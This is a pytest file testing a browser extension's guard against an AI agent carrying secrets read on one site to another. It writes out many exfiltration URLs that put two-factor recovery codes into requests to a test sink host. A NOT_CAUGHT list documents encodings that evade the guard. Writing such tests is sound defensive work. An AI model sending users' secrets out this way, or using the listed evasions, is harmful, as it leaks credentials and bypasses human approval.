"""Issue 34 through the bridge: nothing read on one origin leaves for another without the approval window.

https://shop.test/leak-codes.html shows two-factor recovery codes and an account number; a hostile caller
then tries to carry them to https://frames.test (tests/fixtures/sites/pages/leak-sink.html) through each
way out. Every caught variant opens the flagged window, and after Deny the other server received nothing.
The variants that are NOT caught are tested as such (docs/SECURITY.md lists them). Everyday browsing
opens no window.
"""
import time

import pytest

from extension import start_call, call_result, answer_approval, storage_dump, effects
from harness import Browser, host_rules_for, wait_until
import page_fixtures
from page_fixtures import page_call, uid_of, SHOP, FRAMES

page_site = page_fixtures.page_site
chat = page_fixtures.chat

pytestmark = pytest.mark.browser

CODES = f"https://{SHOP}/leak-codes.html"
SINK = f"https://{FRAMES}/leak-sink.html"
SECRET = "7c4e2-9a1f3"

# Each caught variant: (label, method, url). The flagged window opens; Deny; frames.test saw nothing.
CAUGHT = [
    ("query", "navigate", f"{SINK}?c=7c4e2-9a1f3"),
    ("query, open", "open", f"{SINK}?c=7c4e2-9a1f3"),
    ("query, hyphen dropped", "navigate", f"{SINK}?c=7c4e29a1f3"),
    ("query, upper case", "navigate", f"{SINK}?c=7C4E2-9A1F3"),
    ("query, percent-encoded", "navigate", f"{SINK}?c=%37%63%34%65%32%2D%39%61%31%66%33"),
    ("query, encoded twice", "navigate", f"{SINK}?c=%2537c4e2-9a1f3"),
    ("query, '+' for the hyphen", "navigate", f"{SINK}?c=7c4e2+9a1f3"),
    ("split over two neighbouring parameters", "navigate", f"{SINK}?a=7c4e2&b=9a1f3"),
    ("path", "navigate", f"https://{FRAMES}/p/7c4e2-9a1f3"),
    ("fragment", "navigate", f"{SINK}#7c4e2-9a1f3"),
    ("another code, a listed link's address with a query added", "navigate",
     f"https://{FRAMES}/leak-news-48213977.html?k=50318-82746"),
    ("account number without spaces", "navigate", f"{SINK}?n=441720938812"),
    ("part of the account number", "navigate", f"{SINK}?n=2093-8812"),
    ("the mail address read there", "navigate", f"{SINK}?m=security%40frames.test&c=k3v9p-q2w8x"),
]

# Not caught (documented limits): they run without a window.
NOT_CAUGHT = [
    ("split with a parameter between", f"{SINK}?a=7c4e2&x=1&b=9a1f3"),
    ("reversed", f"{SINK}?c=3f1a9-2e4c7"),
    ("inside a longer word", f"{SINK}?c=x7c4e29a1f3"),
    ("base64", f"{SINK}?c=N2M0ZTItOWExZjM"),
    ("paraphrased in words", f"{SINK}?c=seven-c-four-e-two-nine-a-one-f-three"),
]


@pytest.fixture(scope="module")
def browser(built_extension, fixture_servers, chatbot_site, page_site):
    """This module's Chromium, with WebMCP on (the page's own tools are a way out too)."""
    b = Browser(built_extension.dist, host_rules=host_rules_for([*fixture_servers, page_site]),
                extra_args=["--enable-features=WebMCP"])
    yield b
    b.quit()


def ok(outcome):
    assert outcome.get("ok") is True, outcome
    return outcome["result"]


def read_codes(b):
    """Open the codes page and scan it: its tokens are now noted as read on https://shop.test."""
    tab = ok(page_call(b, {"method": "open", "url": CODES}))["tab"]
    text = ok(page_call(b, {"method": "scan"}))["text"]
    assert SECRET in text
    return tab, text


def notes_written(b):
    """Wait until the leak notes begun so far are stored (they run note_later.DELAY_MS after the call,
    or when a gate needs them) and no note is marked pending."""
    wait_until(lambda: '"rules_leaks"' in (d := storage_dump(b)) and "notes-pending" not in d, 5,
               "the leak notes to be stored")


def sink_hits(site, needle):
    """Requests frames.test received whose path holds needle (case-insensitive, decoded or not)."""
    return [r for r in site.requests if r["host"].startswith(FRAMES) and needle.lower() in r["path"].lower()]


def deny_and_read(b, args):
    key = start_call(b, "page", args)
    preview, outcome = answer_approval(b, key, False)
    assert outcome["reason"] == "approval_denied", outcome
    return preview


@pytest.mark.parametrize("label,method,url", CAUGHT, ids=[c[0] for c in CAUGHT])
def test_a_secret_carried_in_a_url_opens_the_flagged_window_and_deny_sends_nothing(chat, page_site, label, method, url):
    read_codes(chat)
    before = len(page_site.requests)
    preview = deny_and_read(chat, {"method": method, "url": url})
    assert "was read on https://shop.test and would be sent to https://frames.test by page " + method in preview, preview
    # shop.test's text named frames.test (a link, an address): the sentence says so
    assert "(frames.test itself was named in text read on https://shop.test)" in preview
    time.sleep(0.4)
    assert [r for r in page_site.requests[before:] if r["host"].startswith(FRAMES)] == []


@pytest.mark.parametrize("label,url", NOT_CAUGHT, ids=[c[0] for c in NOT_CAUGHT])
def test_the_documented_limits_run_without_a_window(chat, label, url):
    read_codes(chat)
    ok(page_call(chat, {"method": "navigate", "url": url}))
    chat.assert_no_popup("approve.html")


def test_typing_a_secret_into_another_origins_field_is_flagged_and_deny_types_nothing(chat, page_site):
    read_codes(chat)
    ok(page_call(chat, {"method": "open", "url": SINK}))       # the help center, no read data in its URL
    field = uid_of(ok(page_call(chat, {"method": "scan"}))["text"], "T", "Search the help center")
    preview = deny_and_read(chat, {"method": "type", "uid": field, "text": "my code is 50318 82746", "submit": True})
    assert '"5031882746" was read on https://shop.test and would be sent to https://frames.test by page type' in preview
    time.sleep(0.4)
    assert sink_hits(page_site, "50318") == [] and not [r for r in page_site.records if r["data"].get("action") == "search"]
    assert "50318" not in ok(page_call(chat, {"method": "scan"}))["text"]       # the field is still empty


def test_a_pages_own_tool_given_a_secret_is_flagged_and_deny_runs_nothing(chat, page_site):
    read_codes(chat)
    ok(page_call(chat, {"method": "open", "url": SINK}))
    preview = deny_and_read(chat, {"method": "call_tool", "tool": "lookup_article", "args": {"words": "k3v9p-q2w8x"}})
    assert '"k3v9pq2w8x" was read on https://shop.test' in preview and "page call_tool lookup_article" in preview
    time.sleep(0.4)
    assert not [r for r in page_site.records if r["data"].get("action") == "lookup_article"]
    # the same tool with the user's words runs at once
    ok(page_call(chat, {"method": "call_tool", "tool": "lookup_article", "args": {"words": "reset my password"}}))
    chat.assert_no_popup("approve.html")


def test_a_send_carrying_a_secret_in_its_body_says_what_leaves_from_where(chat):
    """The `outbound` fields of a send (Gmail compose/send, Calendar descriptions, Meet chat declare theirs;
    the test adapter's test_send declares subject and body)."""
    read_codes(chat)
    key = start_call(chat, "test_send", {"to": ["me@fine.test"], "subject": "codes", "body": "here: 50318-82746"})
    popup = chat.wait_for_popup("approve.html")
    popup.wait_for("document.getElementById('approve-flags').innerText.includes('was read on https://shop.test')")
    flags = popup.eval("document.getElementById('approve-flags').innerText")
    assert '"5031882746" was read on https://shop.test and would be sent to https://siteagent.test by test_send (body)' in flags
    popup.click("#deny")
    assert call_result(chat, key)["payload"]["reason"] == "approval_denied"
    assert effects(chat) == {}


def test_everyday_browsing_opens_no_window(chat, page_site):
    _, text = read_codes(chat)
    # a link followed as the page listed it (its address carries a number; the scan shows its first 36
    # characters, counted with the scheme it does not show)
    assert f"<{FRAMES}/leak-news-482139\u2026>" in text
    ok(page_call(chat, {"method": "navigate", "url": f"https://{FRAMES}/leak-news-48213977.html"}))
    # a listed link whose query the scan elided: its address as listed
    ok(page_call(chat, {"method": "navigate", "url": SINK}))
    # a search the user typed, by URL and in the page's field
    ok(page_call(chat, {"method": "navigate", "url": f"{SINK}?q=reset+my+password"}))
    field = uid_of(ok(page_call(chat, {"method": "scan"}))["text"], "T", "Search the help center")
    ok(page_call(chat, {"method": "type", "uid": field, "text": "two-factor recovery help"}))
    # the same origin: a code read on shop.test goes back to shop.test
    ok(page_call(chat, {"method": "open", "url": f"{CODES}?c=7c4e2-9a1f3"}))
    ok(page_call(chat, {"method": "navigate", "url": f"https://{SHOP}/about.html"}))
    chat.assert_no_popup("approve.html", within=1.0)


def test_read_data_is_stored_as_hashes_only(chat):
    read_codes(chat)
    notes_written(chat)
    dumped = storage_dump(chat)
    assert "rules_leaks" in dumped
    for value in ["7c4e2", "9a1f3", "7c4e29a1f3", "441720938812", "security@frames.test", "frames.test/leak-news"]:
        assert value not in dumped.lower(), value


GOOGLE_WAYS = [
    ("gmail_compose_draft", {"to": ["friend@fine.test"], "subject": "hello", "body": "the code: 7c4e2-9a1f3"},
     "https://mail.google.com by gmail_compose_draft (body)"),
    ("calendar_draft_event", {"title": "Sync", "start": "2026-12-08T10:00", "end": "2026-12-08T10:30",
                              "description": "codes 50318-82746"}, "https://calendar.google.com by calendar_draft_event (description)"),
    ("meet_send_chat", {"text": "k3v9p-q2w8x"}, "https://meet.google.com by meet_send_chat (text)"),
]


@pytest.mark.parametrize("name,args,to", GOOGLE_WAYS, ids=[w[0] for w in GOOGLE_WAYS])
def test_mail_event_and_chat_text_carrying_a_secret_is_flagged(chat, name, args, to):
    """Gmail compose, a Calendar description, Meet chat: the flagged window opens; Deny runs nothing."""
    read_codes(chat)
    key = start_call(chat, name, args)
    preview, outcome = answer_approval(chat, key, False)
    assert outcome["reason"] == "approval_denied", outcome
    assert "was read on https://shop.test and would be sent to " + to in preview, preview


def test_typing_a_secret_into_a_cross_origin_frames_field_is_flagged(chat, page_site):
    """A field inside a frame: its origin is not the tab's, so any read token typed there is flagged."""
    import re
    read_codes(chat)
    ok(page_call(chat, {"method": "open", "url": f"https://{SHOP}/frames.html"}))
    text = ok(page_call(chat, {"method": "scan"}))["text"]
    framed = re.findall(r"^\s*T (f\d+u\d+) Inner field", text, re.M)
    assert framed, text
    preview = deny_and_read(chat, {"method": "type", "uid": framed[0], "text": "50318-82746"})
    assert "would be sent to a frame inside https://shop.test by page type" in preview, preview
    time.sleep(0.4)
    assert not [r for r in page_site.records if r["data"].get("action") == "inner-typed"]
    # the user's own words go in without a window
    ok(page_call(chat, {"method": "type", "uid": framed[0], "text": "hello there"}))
    chat.assert_no_popup("approve.html")


def test_the_notes_survive_a_worker_restart_with_a_generic_origin(chat, page_site):
    """The hashes are in storage.session; where a token was read, in words, was in the worker's memory."""
    read_codes(chat)
    notes_written(chat)
    chat.stop_service_worker()
    before = len(page_site.requests)
    preview = deny_and_read(chat, {"method": "navigate", "url": f"{SINK}?c=7c4e2-9a1f3"})
    assert ('"7c4e29a1f3" was read on an earlier page (which one was forgotten when the extension restarted) '
            "and would be sent to https://frames.test by page navigate") in preview, preview
    assert "were lost" not in preview
    time.sleep(0.4)
    assert [r for r in page_site.requests[before:] if r["host"].startswith(FRAMES)] == []


def test_notes_a_stopped_worker_had_not_written_flag_every_way_out_after_the_restart(chat, page_site):
    """A note waits for the worker to be idle: a worker stopped before it ran lost it. The next worker
    finds the mark the notes leave in storage.session, and flags every way out, whatever it carries."""
    chat.sw_eval("chrome.storage.session.clear().then(() => 1)")    # no notes of earlier tests
    chat.stop_service_worker()
    read_codes(chat)
    assert "notes-pending" in storage_dump(chat)
    chat.stop_service_worker()          # before note_later.DELAY_MS: the codes page's notes never ran
    assert "rules_leaks" not in storage_dump(chat)
    before = len(page_site.requests)
    preview = deny_and_read(chat, {"method": "navigate", "url": SINK})
    assert "notes of a result read before the extension's worker stopped were lost" in preview, preview
    time.sleep(0.4)
    assert [r for r in page_site.requests[before:] if r["host"].startswith(FRAMES)] == []
    # as after a note that failed, until the worker restarts; the worker that found the mark removed
    # it, so the next one starts clean
    assert "notes-pending" not in storage_dump(chat)
    chat.stop_service_worker()
    assert ok(page_call(chat, {"method": "navigate", "url": SINK}))
